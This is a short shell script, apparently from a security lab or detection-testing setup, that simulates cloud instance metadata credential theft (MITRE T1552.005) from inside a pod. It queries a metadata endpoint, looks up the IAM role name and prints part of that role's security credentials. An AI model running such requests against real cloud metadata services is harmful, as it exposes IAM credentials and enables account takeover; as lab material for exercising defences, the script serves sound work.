#!/bin/sh
# Lab attack scenario: cloud-metadata (T1552.005). Runs inside a lab pod via pods/exec (sh -s, script on stdin).
curl -s -m 3 http://$LAB_METADATA_IP/latest/meta-data/ > /dev/null
ROLE=$(curl -s -m 3 http://$LAB_METADATA_IP/latest/meta-data/iam/security-credentials/)
curl -s -m 3 http://$LAB_METADATA_IP/latest/meta-data/iam/security-credentials/$ROLE | head -c 200; echo
